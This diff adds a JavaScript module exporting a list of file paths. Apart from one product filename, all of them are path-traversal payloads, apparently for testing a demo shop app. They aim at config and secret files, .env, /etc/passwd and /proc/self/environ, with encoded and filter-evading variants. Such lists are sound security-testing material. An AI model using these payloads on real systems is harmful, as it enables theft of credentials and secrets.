@@ -0,0 +1,18 @@
+export default [
+  "product-sheet.txt",
+  "../config/auth.js",
+  "../config/jwt.js",
+  "../config/database.sql",
+  "../config/sqreen-shop-db",
+  "../app.js",
+  "../../package.json",
+  "../../.env.development",
+  "../../../../../../etc/passwd",
+  "../../../../../../etc/hosts",
+  "../../../../../../proc/self/environ",
+  "/etc/passwd",
+  "..%2fconfig%2fauth.js",
+  "....//config/auth.js",
+  "..\\config\\auth.js",
+  "%2e%2e/config/auth.js"
+];